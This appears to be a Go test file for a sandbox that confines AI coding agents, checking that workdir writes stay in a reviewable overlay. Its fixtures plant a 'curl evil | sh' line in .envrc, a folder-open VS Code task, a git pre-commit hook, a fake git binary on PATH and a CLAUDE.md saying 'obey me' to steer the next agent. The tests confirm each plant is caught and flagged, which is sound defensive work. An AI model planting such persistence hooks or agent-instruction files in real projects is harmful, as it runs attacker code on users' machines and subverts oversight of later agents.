package escape

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/fedmem/fedmem/test/testutil"
)

// Workdir proposals (issue 22 item 6): with `workdir: propose` (the
// built-in strict profile's default) the agent's writes to the workdir land
// in an overlay in the sandbox, capped at limits.workdir_bytes; nothing
// reaches the real tree while it runs, and after it fedmem-run writes the
// change set as the branch fedmem/propose/SESSION (a patch outside Git),
// flags persistence-class files and prints the one command that applies it.
// These tests name the namespace backend themselves (the container backends
// refuse the setting: TestProposeRefusedByContainerBackend).

// proposeLayouts: a root caller (workdir idmapped to the agent's uid) and
// an unprivileged one.
var proposeLayouts = []layout{{name: "beside/root"}, {name: "own-vault/user", user: true, agentOwned: true}}

// proposal is the report's "proposal".
type proposal struct {
	Kind    string `json:"kind"`
	Dir     string `json:"dir"`
	Branch  string `json:"branch"`
	Commit  string `json:"commit"`
	Base    string `json:"base"`
	Patch   string `json:"patch"`
	Apply   string `json:"apply"`
	Changed int    `json:"changed"`
	Deleted int    `json:"deleted"`
	Full    bool   `json:"full"`
	Error   string `json:"error"`
	Flagged []struct {
		Path, Change, Why string
	} `json:"flagged"`
	Skipped []struct {
		Path, Change, Why string
	} `json:"skipped"`
}

func reportProposal(t *testing.T, r *run) *proposal {
	t.Helper()
	raw, ok := r.report["proposal"]
	if !ok {
		t.Fatalf("the report has no proposal (exit %d)\nstderr:\n%s", r.code, r.stderr)
	}
	b, _ := json.Marshal(raw)
	var p proposal
	must(t, json.Unmarshal(b, &p))
	return &p
}

// nsArgs drops the FEDMEM_BACKEND matrix's flags from a fedmem-run command
// line: proposals are the namespace backend's.
func nsArgs(args []string) []string {
	var out []string
	for i := 0; i < len(args); i++ {
		if args[i] == "--backend" || args[i] == "--containerd-address" {
			i++
			continue
		}
		out = append(out, args[i])
	}
	return out
}

// proposeRun runs argv under the namespace backend with profile prof; when
// onWritten is set, the agent's stdout is read until a line WRITTEN, then
// onWritten runs while the agent waits on its stdin, which is closed after.
func (e *env) proposeRun(t *testing.T, prof string, onWritten func(), argv ...string) *run {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	report := filepath.Join(e.outDir, "report-"+strconv.FormatInt(time.Now().UnixNano(), 36)+".json")
	cmd := e.command(ctx, report, []string{"--profile", prof}, argv...)
	cmd.Args = nsArgs(cmd.Args)
	var so, se bytes.Buffer
	cmd.Stderr = &se
	var stdin io.WriteCloser
	var stdout io.Reader
	if onWritten != nil {
		var err error
		stdin, err = cmd.StdinPipe()
		must(t, err)
		pr, err := cmd.StdoutPipe()
		must(t, err)
		stdout = pr
	} else {
		cmd.Stdout = &so
	}
	must(t, cmd.Start())
	if onWritten != nil {
		sc := bufio.NewScanner(stdout)
		seen := false
		for sc.Scan() {
			so.WriteString(sc.Text() + "\n")
			if sc.Text() == "WRITTEN" {
				seen = true
				onWritten()
				stdin.Close()
			}
		}
		if !seen {
			stdin.Close()
			t.Errorf("the agent never said WRITTEN:\n%s", so.Bytes())
		}
	}
	err := cmd.Wait()
	if ctx.Err() != nil {
		t.Fatalf("fedmem-run timed out\nstderr:\n%s", se.Bytes())
	}
	r := &run{stdout: so.Bytes(), stderr: se.Bytes(), code: exitCode(err)}
	if b, err := os.ReadFile(report); err == nil {
		must(t, json.Unmarshal(b, &r.report))
		r.session, _ = r.report["session"].(string)
	}
	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	return r
}

// gitWorkdir makes e.workdir a Git repository with one commit, owned by
// the layout's caller.
func gitWorkdir(t *testing.T, e *env) {
	t.Helper()
	files := map[string]string{"a.txt": "base\n", "b.txt": "keep?\n", "d/x": "x\n", "run.sh": "echo run\n"}
	for rel, c := range files {
		p := filepath.Join(e.workdir, rel)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(c), 0o644))
	}
	must(t, os.WriteFile(filepath.Join(e.workdir, ".gitignore"), []byte("/build/\n"), 0o644))
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base"}} {
		if out, err := testutil.Git(e.workdir, args...); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	}
	e.ownWorkdir(t)
}

// ownWorkdir gives the workdir's tree to an unprivileged layout's caller.
func (e *env) ownWorkdir(t *testing.T) {
	t.Helper()
	if e.l.user {
		must(t, testutil.ChownTree(e.workdir, agentUID, agentUID))
	}
}

func gitOut(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := testutil.Git(dir, args...)
	if err != nil {
		t.Fatalf("%v", err)
	}
	return strings.TrimSpace(out)
}

// workdirChanges are the agent's edits: append, delete a file and a
// directory, chmod +x, a new file, a symlink, a FIFO; then it reports the
// file system type of its workdir and waits for the test on its stdin.
const workdirChanges = `
import os, sys
with open("a.txt", "a") as f: f.write("more\n")
os.remove("b.txt")
os.remove("d/x"); os.rmdir("d")
os.chmod("run.sh", 0o755)
with open("n.txt", "w") as f: f.write("new\n")
os.symlink("n.txt", "l")
os.mkfifo("ff")
cwd = os.getcwd()
for line in open("/proc/self/mountinfo"):
    l, r = line.split(" - ", 1)
    if l.split()[4] == cwd:
        print("FSTYPE", r.split()[0], flush=True)
print("WRITTEN", flush=True)
sys.stdin.read()
`

// gitMeta allows, in the workdir's snapshot after the session, what the
// proposal's branch adds to the repository: objects, the ref and its log.
func gitMeta(rel string) bool {
	for _, p := range []string{".git/objects", ".git/refs/heads", ".git/logs"} {
		if rel == p || strings.HasPrefix(rel, p+"/") {
			return true
		}
	}
	return false
}

// TestProposeWorkdirUntouched: under `workdir: propose` (profile strict)
// the agent appends, deletes a file and a directory, chmods +x, creates a
// file, a symlink and a FIFO — and the real workdir stays byte for byte
// the same while the agent still runs and after it (the Git objects and
// ref of the branch aside), because the workdir inside is an overlay
// (its mount's file system type, seen by the agent, is overlay). The
// branch fedmem/propose/SESSION holds exactly the changes, on HEAD, with
// the executable bit and the link; the FIFO is named as not proposable;
// the user's index and work tree are untouched. On the old code the agent
// wrote the real tree (strict had no proposals).
func TestProposeWorkdirUntouched(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			head := gitOut(t, e.workdir, "rev-parse", "HEAD")
			before, err := testutil.Take(e.workdir)
			must(t, err)
			r := e.proposeRun(t, "strict", func() {
				during, err := testutil.Take(e.workdir)
				must(t, err)
				for _, d := range testutil.Diff(before, during, nil) {
					t.Errorf("BREACH: the real workdir changed while the agent ran: %s", d)
				}
			}, "python3", "-c", workdirChanges)
			if r.code != 0 {
				t.Fatalf("exit %d", r.code)
			}
			if !strings.Contains(string(r.stdout), "FSTYPE overlay\n") {
				t.Errorf("the agent's workdir is not an overlay:\n%s", r.stdout)
			}
			after, err := testutil.Take(e.workdir)
			must(t, err)
			for _, d := range testutil.Diff(before, after, gitMeta) {
				t.Errorf("BREACH: the real workdir changed: %s", d)
			}
			if st := gitOut(t, e.workdir, "status", "--porcelain"); st != "" {
				t.Errorf("the user's work tree is not clean: %q", st)
			}
			p := reportProposal(t, r)
			if p.Kind != "branch" || p.Branch != "fedmem/propose/"+r.session || p.Base != head {
				t.Fatalf("proposal %+v, want a branch fedmem/propose/%s on %s", p, r.session, head)
			}
			got := strings.Split(gitOut(t, e.workdir, "diff-tree", "-r", "--no-renames", "--name-status", head, p.Branch), "\n")
			sort.Strings(got)
			want := []string{"A\tl", "A\tn.txt", "D\tb.txt", "D\td/x", "M\ta.txt", "M\trun.sh"}
			if strings.Join(got, "|") != strings.Join(want, "|") {
				t.Errorf("branch changes %q, want exactly %q", got, want)
			}
			if c := gitOut(t, e.workdir, "show", p.Branch+":a.txt"); c != "base\nmore" {
				t.Errorf("a.txt in the branch: %q", c)
			}
			for path, mode := range map[string]string{"run.sh": "100755", "l": "120000", "n.txt": "100644"} {
				if f := strings.Fields(gitOut(t, e.workdir, "ls-tree", p.Branch, "--", path)); len(f) == 0 || f[0] != mode {
					t.Errorf("%s in the branch: %v, want mode %s", path, f, mode)
				}
			}
			if c := gitOut(t, e.workdir, "cat-file", "-p", p.Branch+":l"); c != "n.txt" {
				t.Errorf("the link's target in the branch: %q", c)
			}
			if !strings.Contains(string(r.stderr), "not proposed ff (fifo)") {
				t.Errorf("the FIFO is not named as not proposed:\n%s", r.stderr)
			}
			if !strings.Contains(string(r.stderr), "apply: "+p.Apply) || !strings.Contains(p.Apply, "merge "+p.Branch) {
				t.Errorf("the apply command %q is not on stderr:\n%s", p.Apply, r.stderr)
			}
		})
	}
}

// applyAs runs the proposal's one apply command as the layout's caller.
func (e *env) applyAs(t *testing.T, command string) {
	t.Helper()
	name, args := "sh", []string{"-c", command}
	if e.l.user {
		args = append([]string{"--reuid", strconv.Itoa(agentUID), "--regid", strconv.Itoa(agentUID), "--clear-groups", "--", name}, args...)
		name = "setpriv"
	}
	cmd := exec.Command(name, args...)
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + e.home, "GIT_CONFIG_NOSYSTEM=1"}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("apply %q: %v\n%s", command, err, out)
	}
}

// checkApplied checks the workdir holds workdirChanges' result (the FIFO
// aside).
func checkApplied(t *testing.T, dir string) {
	t.Helper()
	if b, _ := os.ReadFile(filepath.Join(dir, "a.txt")); string(b) != "base\nmore\n" {
		t.Errorf("a.txt after apply: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "n.txt")); string(b) != "new\n" {
		t.Errorf("n.txt after apply: %q", b)
	}
	for _, gone := range []string{"b.txt", "d"} {
		if _, err := os.Lstat(filepath.Join(dir, gone)); err == nil {
			t.Errorf("%s still there after apply", gone)
		}
	}
	if fi, err := os.Stat(filepath.Join(dir, "run.sh")); err != nil || fi.Mode()&0o111 == 0 {
		t.Errorf("run.sh not executable after apply: %v %v", fi, err)
	}
	if l, err := os.Readlink(filepath.Join(dir, "l")); err != nil || l != "n.txt" {
		t.Errorf("the link after apply: %q %v", l, err)
	}
}

// TestProposeApply: the one command fedmem-run prints (git merge of the
// branch) applies the proposal to a Git workdir as the user runs it.
func TestProposeApply(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			r := e.proposeRun(t, "strict", func() {}, "python3", "-c", workdirChanges)
			p := reportProposal(t, r)
			if p.Kind != "branch" || p.Apply == "" {
				t.Fatalf("proposal %+v", p)
			}
			e.applyAs(t, p.Apply)
			checkApplied(t, e.workdir)
			if st := gitOut(t, e.workdir, "status", "--porcelain"); st != "" {
				t.Errorf("after apply the work tree is not clean: %q", st)
			}
		})
	}
}

// TestProposeNonGitPatch: a workdir outside Git gets a patch in the
// proposal's folder; the real tree is untouched; the printed command (git
// apply) applies it.
func TestProposeNonGitPatch(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			for rel, c := range map[string]string{"a.txt": "base\n", "b.txt": "keep?\n", "d/x": "x\n", "run.sh": "echo run\n"} {
				p := filepath.Join(e.workdir, rel)
				must(t, os.MkdirAll(filepath.Dir(p), 0o755))
				must(t, os.WriteFile(p, []byte(c), 0o644))
			}
			e.ownWorkdir(t)
			before, err := testutil.Take(e.workdir)
			must(t, err)
			r := e.proposeRun(t, "strict", func() {}, "python3", "-c", workdirChanges)
			after, err := testutil.Take(e.workdir)
			must(t, err)
			for _, d := range testutil.Diff(before, after, nil) {
				t.Errorf("BREACH: the real workdir changed: %s", d)
			}
			p := reportProposal(t, r)
			if p.Kind != "patch" || p.Patch == "" || !strings.HasPrefix(p.Patch, filepath.Join(e.home, ".local/state/fedmem/proposals", r.session)+"/") {
				t.Fatalf("proposal %+v, want a patch in the caller's proposals folder", p)
			}
			patch, err := os.ReadFile(p.Patch)
			must(t, err)
			for _, want := range []string{"+++ b/a.txt", "deleted file mode 100644", "--- a/d/x", "new mode 100755", "new file mode 120000", "+new"} {
				if !bytes.Contains(patch, []byte(want)) {
					t.Errorf("the patch lacks %q:\n%s", want, patch)
				}
			}
			e.applyAs(t, p.Apply)
			checkApplied(t, e.workdir)
		})
	}
}

// TestProposeSizeCap: the proposal's upper layer is a tmpfs of
// limits.workdir_bytes: a write past it fails with ENOSPC inside (the
// kernel's cap), the session goes on, and the proposal holds what fit and
// says it was full. Nothing reaches the real tree.
func TestProposeSizeCap(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			prof := filepath.Join(e.outDir, "propcap.yaml")
			must(t, os.WriteFile(prof, []byte("name: propcap\nextends: strict\nlimits:\n  workdir_bytes: 2MiB\n"), 0o644))
			if l.user {
				must(t, os.Chown(prof, agentUID, agentUID))
			}
			probe := `
import errno, os
def write(name, n):
    try:
        with open(name, "wb") as f:
            f.write(b"x" * n)
        print("WROTE", name, flush=True)
    except OSError as e:
        print("refused", name, errno.errorcode.get(e.errno, e.errno), flush=True)
write("fit.bin", 512 << 10)
write("big.bin", 8 << 20)
print("AFTER", flush=True)
`
			r := e.proposeRun(t, prof, nil, "python3", "-c", probe)
			out := string(r.stdout)
			if !strings.Contains(out, "WROTE fit.bin\n") {
				t.Errorf("a write under the cap failed:\n%s", out)
			}
			if strings.Contains(out, "WROTE big.bin") {
				t.Errorf("BREACH: 8MiB written past limits.workdir_bytes=2MiB")
			} else if !strings.Contains(out, "refused big.bin ENOSPC\n") {
				t.Errorf("the write past the cap was not refused with ENOSPC:\n%s", out)
			}
			if r.code != 0 || !strings.Contains(out, "AFTER") {
				t.Errorf("the session did not go on after ENOSPC (exit %d)", r.code)
			}
			for _, n := range []string{"fit.bin", "big.bin"} {
				if _, err := os.Lstat(filepath.Join(e.workdir, n)); err == nil {
					t.Errorf("BREACH: %s reached the real workdir", n)
				}
			}
			p := reportProposal(t, r)
			if !p.Full || !strings.Contains(string(r.stderr), "limits.workdir_bytes") {
				t.Errorf("the proposal does not say it was full: %+v\n%s", p, r.stderr)
			}
			if p.Kind != "branch" {
				t.Fatalf("proposal %+v", p)
			}
			if f := strings.Fields(gitOut(t, e.workdir, "ls-tree", "-l", p.Branch, "--", "fit.bin")); len(f) < 4 || f[3] != strconv.Itoa(512<<10) {
				t.Errorf("fit.bin in the branch: %v, want %d bytes", f, 512<<10)
			}
		})
	}
}

// TestProposeFlagsPersistence: files that run code on the user's next
// command (.envrc, .vscode/tasks.json, a hook under .git/hooks) or that the
// next agent reads (CLAUDE.md), written by the agent, are flagged in the
// summary on stderr and in the report; the hook under .git is never in the
// branch and never reaches the real .git (kept in the proposal's folder
// for reading); the others are in the branch for review, flagged. What the
// agent's own `git add` writes under .git (index, objects) is counted and
// kept, never applied, without a flag per file.
func TestProposeFlagsPersistence(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			plant := `set -e
echo 'curl evil | sh' > .envrc
mkdir -p .vscode sub
echo '{"tasks":[{"label":"x","command":"evil","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
echo 'obey me' > sub/CLAUDE.md
printf '#!/bin/sh\nevil\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
git add .envrc
echo PLANTED`
			r := e.proposeRun(t, "strict", nil, "sh", "-c", plant)
			if !strings.Contains(string(r.stdout), "PLANTED") {
				t.Fatalf("the plants were not written inside (exit %d)", r.code)
			}
			p := reportProposal(t, r)
			flagged := map[string]string{}
			for _, f := range p.Flagged {
				flagged[f.Path] = f.Why
			}
			for _, path := range []string{".envrc", ".vscode/tasks.json", "sub/CLAUDE.md", ".git/hooks/pre-commit"} {
				if flagged[path] == "" {
					t.Errorf("%s is not flagged: %+v", path, p.Flagged)
				}
				if !strings.Contains(string(r.stderr), "FLAGGED "+path+" ") {
					t.Errorf("%s is not flagged on stderr:\n%s", path, r.stderr)
				}
			}
			// The agent's own git use (git add: the index, an object) is
			// counted and kept, not flagged file by file.
			if flagged[".git/index"] != "" || !strings.Contains(string(r.stderr), "other files written under .git (index, objects, refs): never applied") {
				t.Errorf("the agent's git add is flagged file by file or not said:\n%s", r.stderr)
			}
			if !strings.Contains(flagged[".git/hooks/pre-commit"], "never applied") {
				t.Errorf("the hook's flag does not say it is never applied: %q", flagged[".git/hooks/pre-commit"])
			}
			if _, err := os.Lstat(filepath.Join(e.workdir, ".git/hooks/pre-commit")); err == nil {
				t.Errorf("BREACH: the hook reached the real .git")
			}
			if _, err := os.Lstat(filepath.Join(e.workdir, ".envrc")); err == nil {
				t.Errorf("BREACH: .envrc reached the real workdir")
			}
			if b, err := os.ReadFile(filepath.Join(p.Dir, "git-files/.git/hooks/pre-commit")); err != nil || !strings.Contains(string(b), "evil") {
				t.Errorf("the hook is not kept in the proposal's folder: %q %v", b, err)
			}
			files := gitOut(t, e.workdir, "ls-tree", "-r", "--name-only", p.Branch)
			for _, want := range []string{".envrc", ".vscode/tasks.json", "sub/CLAUDE.md"} {
				if !strings.Contains("\n"+files+"\n", "\n"+want+"\n") {
					t.Errorf("%s is not in the branch for review:\n%s", want, files)
				}
			}
			if strings.Contains(files, "pre-commit") {
				t.Errorf("BREACH: the hook is in the branch:\n%s", files)
			}
		})
	}
}

// TestProposeRefusedByContainerBackend: runc and containerd cannot build
// the overlay: a profile with `workdir: propose` (strict) is refused with
// exit 125 naming the setting and the way out, before anything of the
// session exists — the agent never runs, the workdir and the vault are
// unchanged. --explain names the mode under the namespace backend.
func TestProposeRefusedByContainerBackend(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	must(t, os.WriteFile(filepath.Join(e.workdir, "a.txt"), []byte("base\n"), 0o644))
	for _, backend := range []string{"runc", "containerd"} {
		t.Run(backend, func(t *testing.T) {
			before, err := testutil.Take(e.vault.Dir)
			must(t, err)
			wbefore, err := testutil.Take(e.workdir)
			must(t, err)
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			cmd := e.command(ctx, "", nil, "/bin/sh", "-c", "echo changed > a.txt; echo AGENT-RAN")
			args := nsArgs(cmd.Args)
			// The flags go before the "--" that ends fedmem-run's own (env's
			// "--" comes before fedmem-run: e.command).
			run := slices.Index(args, e.bins.FedmemRun)
			for i, a := range args {
				if a == "--" && i > run {
					args = append(args[:i:i], append([]string{"--profile", "strict", "--backend", backend}, args[i:]...)...)
					break
				}
			}
			cmd.Args = args
			var so, se bytes.Buffer
			cmd.Stdout, cmd.Stderr = &so, &se
			code := exitCode(cmd.Run())
			t.Logf("%v: exit %d\n%s", cmd.Args, code, se.Bytes())
			if code != 125 {
				t.Errorf("exit %d, want 125", code)
			}
			for _, want := range []string{"the " + backend + " backend cannot build the profile's `workdir: propose`", "--backend namespace"} {
				if !strings.Contains(se.String(), want) {
					t.Errorf("stderr lacks %q", want)
				}
			}
			if strings.Contains(so.String(), "AGENT-RAN") {
				t.Errorf("the agent ran")
			}
			after, err := testutil.Take(e.vault.Dir)
			must(t, err)
			for _, d := range testutil.Diff(before, after, nil) {
				t.Errorf("the vault changed: %s", d)
			}
			wafter, err := testutil.Take(e.workdir)
			must(t, err)
			for _, d := range testutil.Diff(wbefore, wafter, nil) {
				t.Errorf("the workdir changed: %s", d)
			}
		})
	}
	t.Run("explain", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		cmd := e.command(ctx, "", []string{"--profile", "strict", "--explain"}, "true")
		cmd.Args = nsArgs(cmd.Args)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("--explain: %v\n%s", err, out)
		}
		if !bytes.Contains(out, []byte("workdir: propose — "+e.workdir+" is an overlay")) || !bytes.Contains(out, []byte("limits.workdir_bytes")) {
			t.Errorf("--explain does not name the proposal:\n%s", out)
		}
	})
}

// strictProfile is the built-in strict profile for the backend under test:
// the container backends refuse strict's `workdir: propose`
// (TestProposeRefusedByContainerBackend), so under them it is strict with
// `workdir: direct`, for tests whose subject is not the workdir (the
// environment, the network).
func strictProfile(t *testing.T, e *env) string {
	t.Helper()
	if testutil.Backend() == "namespace" {
		return "strict"
	}
	p := filepath.Join(e.outDir, "strict-direct.yaml")
	must(t, os.WriteFile(p, []byte("name: strict-direct\nextends: strict\nworkdir: direct\n"), 0o644))
	return p
}

// TestProposeReadOnlySubmount: a mount read-only on the host inside a
// proposed workdir (an overlay layer does not cross mounts) is put back
// on top of the overlay, read-only: the session runs, a write there fails
// with EROFS, the host's files are unchanged, and a write beside it lands
// in the proposal (root caller). An unprivileged caller's session is
// refused (exit 125) naming the submount and the way out: the kernel does
// not let it lay an overlay over a tree with locked submounts.
func TestProposeReadOnlySubmount(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			plain := filepath.Join(e.base, "ro-src")
			must(t, os.MkdirAll(plain, 0o777))
			must(t, os.Chmod(plain, 0o777))
			must(t, os.WriteFile(filepath.Join(plain, "data.txt"), []byte("host data\n"), 0o666))
			must(t, os.Chmod(filepath.Join(plain, "data.txt"), 0o666))
			sub := filepath.Join(e.workdir, "ro-sub")
			roBind(t, plain, sub)
			control := filepath.Join(e.workdir, "control.txt")
			r := e.proposeRun(t, "strict", nil, "python3", "-c", roProbe, control, filepath.Join(sub, "data.txt"))
			if l.user {
				// The kernel refuses an unprivileged caller an overlay over
				// a tree with (locked) submounts: refused, clearly, and
				// nothing ran.
				if r.code != 125 || !strings.Contains(string(r.stderr), "the workdir holds a mount ("+sub+")") || !strings.Contains(string(r.stderr), "workdir: direct") {
					t.Errorf("exit %d, want 125 naming the submount and the way out:\n%s", r.code, r.stderr)
				}
				if strings.Contains(string(r.stdout), "WROTE") || strings.Contains(string(r.stdout), "refused") {
					t.Errorf("the agent ran:\n%s", r.stdout)
				}
				return
			}
			if r.code != 0 {
				t.Fatalf("the session did not run (exit %d): a read-only mount in a proposed workdir must not refuse it", r.code)
			}
			out := string(r.stdout)
			if !strings.Contains(out, "WROTE create "+control) {
				t.Errorf("control: the agent could not write its workdir:\n%s", out)
			}
			p := filepath.Join(sub, "data.txt")
			for _, op := range []string{"append " + p, "create " + filepath.Join(sub, "new-by-agent")} {
				if strings.Contains(out, "WROTE "+op+"\n") {
					t.Errorf("BREACH: %s succeeded on a mount read-only on the host", op)
				} else if !strings.Contains(out, "refused "+op+" EROFS\n") {
					t.Errorf("%s: not refused with EROFS:\n%s", op, out)
				}
			}
			if b, _ := os.ReadFile(filepath.Join(plain, "data.txt")); string(b) != "host data\n" {
				t.Errorf("BREACH: the read-only bind's file changed on the host: %q", b)
			}
			if _, err := os.Lstat(control); err == nil {
				t.Errorf("BREACH: control.txt reached the real workdir")
			}
			if pr := reportProposal(t, r); pr.Kind != "branch" {
				t.Errorf("proposal %+v", pr)
			}
		})
	}
}

// TestProposeKeptWhenBranchFails: when the branch cannot be written (here
// a branch named fedmem already exists, so no fedmem/propose/… ref can),
// nothing the agent wrote is lost: the upper layer is copied to the
// proposal's folder, and the summary and the report say so and where.
func TestProposeKeptWhenBranchFails(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			gitOut(t, e.workdir, "branch", "fedmem")
			e.ownWorkdir(t)
			r := e.proposeRun(t, "strict", nil, "sh", "-c", "echo kept > n.txt && rm b.txt")
			p := reportProposal(t, r)
			if p.Kind != "kept" || !strings.Contains(p.Error, "update-ref") {
				t.Fatalf("proposal %+v, want kept after update-ref failed", p)
			}
			upper := filepath.Join(p.Dir, "upper")
			if !strings.Contains(p.Error, upper) || !strings.Contains(string(r.stderr), "proposal NOT written") || !strings.Contains(string(r.stderr), upper) {
				t.Errorf("the error does not say where the files are (%s):\n%s", upper, r.stderr)
			}
			if b, err := os.ReadFile(filepath.Join(upper, "n.txt")); err != nil || string(b) != "kept\n" {
				t.Errorf("n.txt not kept: %q %v", b, err)
			}
			if fi, err := os.Lstat(filepath.Join(upper, "b.txt")); err != nil || fi.Mode()&os.ModeCharDevice == 0 {
				t.Errorf("the deletion of b.txt is not kept as a whiteout: %v %v", fi, err)
			}
			if _, err := os.Lstat(filepath.Join(e.workdir, "n.txt")); err == nil {
				t.Errorf("BREACH: n.txt reached the real workdir")
			}
		})
	}
}

// TestProposeUncommittedSaid: the branch is on HEAD, so when the user had
// uncommitted edits in a file the agent changed, the branch's version holds
// them: the summary and the report name that file (and only it), and the
// user's index is not rewritten by the check.
func TestProposeUncommittedSaid(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	gitWorkdir(t, e)
	must(t, os.WriteFile(filepath.Join(e.workdir, "a.txt"), []byte("base\nuser edit\n"), 0o644))
	index, err := os.ReadFile(filepath.Join(e.workdir, ".git/index"))
	must(t, err)
	// b.txt, committed and untouched by the user, changed by the agent
	// too: it must not be named (the check once read the proposal's own
	// index and named every changed file).
	r := e.proposeRun(t, "strict", nil, "sh", "-c", "echo agent >> a.txt && echo agent >> b.txt && echo new > n.txt")
	raw, _ := json.Marshal(r.report["proposal"])
	var p struct {
		Branch      string
		Uncommitted []string
	}
	must(t, json.Unmarshal(raw, &p))
	if strings.Join(p.Uncommitted, ",") != "a.txt" {
		t.Errorf("uncommitted %v, want [a.txt]", p.Uncommitted)
	}
	if !strings.Contains(string(r.stderr), "the work tree had uncommitted edits in a.txt:") {
		t.Errorf("the summary does not name a.txt:\n%s", r.stderr)
	}
	if c := gitOut(t, e.workdir, "show", p.Branch+":a.txt"); c != "base\nuser edit\nagent" {
		t.Errorf("a.txt in the branch: %q", c)
	}
	if b, _ := os.ReadFile(filepath.Join(e.workdir, ".git/index")); !bytes.Equal(b, index) {
		t.Errorf("the user's index changed")
	}
}

// TestProposeFlagsProgramOnPath: the caller's PATH names a folder of the
// workdir (direnv's PATH_add bin); the agent leaves bin/git there. Under
// workdir: propose it does not reach the real tree while the agent runs or
// after, and the proposal flags it as a program on the caller's PATH (the
// direct workdir's open breach, TestRT22WorkdirPathDirPlanted).
func TestProposeFlagsProgramOnPath(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			bin := filepath.Join(e.workdir, "bin")
			must(t, os.MkdirAll(bin, 0o755))
			if l.user {
				must(t, os.Chown(bin, agentUID, agentUID))
			}
			e.path = bin + ":/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"
			plant := `printf '#!/bin/sh\necho PLANTED-GIT\n' > bin/git && chmod +x bin/git && echo 'not a program' > bin/README && echo WROTE`
			r := e.proposeRun(t, "strict", nil, "sh", "-c", plant)
			if !strings.Contains(string(r.stdout), "WROTE") {
				t.Fatalf("the plant was not written inside (exit %d):\n%s", r.code, r.stderr)
			}
			if _, err := os.Lstat(filepath.Join(bin, "git")); err == nil {
				t.Fatalf("BREACH: bin/git, on the caller's PATH, reached the real workdir")
			}
			p := reportProposal(t, r)
			flagged := map[string]string{}
			for _, f := range p.Flagged {
				flagged[f.Path] = f.Why
			}
			if !strings.Contains(flagged["bin/git"], "a folder on your PATH") {
				t.Errorf("bin/git is not flagged as a program on the caller's PATH: %+v", p.Flagged)
			}
			if flagged["bin/README"] != "" {
				t.Errorf("bin/README (not executable) is flagged: %q", flagged["bin/README"])
			}
			if !strings.Contains(string(r.stderr), "FLAGGED bin/git ") {
				t.Errorf("bin/git is not flagged on stderr:\n%s", r.stderr)
			}
		})
	}
}

// TestHostProgramsNotFromAgentPath: fedmem-run runs programs of its own
// outside the sandbox, as the caller (git for a proposal, cp when its
// branch fails, newgidmap, busctl): found on the caller's PATH, a folder
// the agent writes there (direnv's PATH_add bin) handed the next session's
// fedmem-run a program an earlier agent left — here bin/git, planted as a
// default-profile session would, run as root after a strict session to
// write its proposal. fedmem-run looks up its own programs on the caller's
// PATH without the folders the agent may write; the agent's own PATH is
// unchanged.
func TestHostProgramsNotFromAgentPath(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			gitWorkdir(t, e)
			bin := filepath.Join(e.workdir, "bin")
			must(t, os.MkdirAll(bin, 0o755))
			marker := filepath.Join(e.outDir, "planted-git-ran")
			must(t, os.WriteFile(filepath.Join(bin, "git"), []byte("#!/bin/sh\ntouch "+marker+"\nexit 1\n"), 0o755))
			if l.user {
				must(t, os.Chown(bin, agentUID, agentUID))
				must(t, os.Chown(filepath.Join(bin, "git"), agentUID, agentUID))
				must(t, os.Chmod(e.outDir, 0o777))
			}
			e.path = bin + ":/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"
			r := e.proposeRun(t, "strict", nil, "sh", "-c", `echo "PATH=$PATH"; echo more >> a.txt && echo WROTE`)
			if !strings.Contains(string(r.stdout), "WROTE") {
				t.Fatalf("the agent did not write (exit %d):\n%s", r.code, r.stderr)
			}
			if !strings.Contains(string(r.stdout), "PATH="+bin+":") {
				t.Errorf("the agent's PATH lost the caller's folder (it is the agent's to use inside):\n%s", r.stdout)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Fatalf("BREACH: fedmem-run ran %s/git, which the agent may write, outside the sandbox as the caller", bin)
			}
			if p := reportProposal(t, r); p.Kind != "branch" || p.Branch == "" {
				t.Errorf("proposal %+v, want a branch written by the system's git", p)
			}
		})
	}
}

// TestRedTeamCommondirBareLayoutEscapesWalk: a directory is a Git
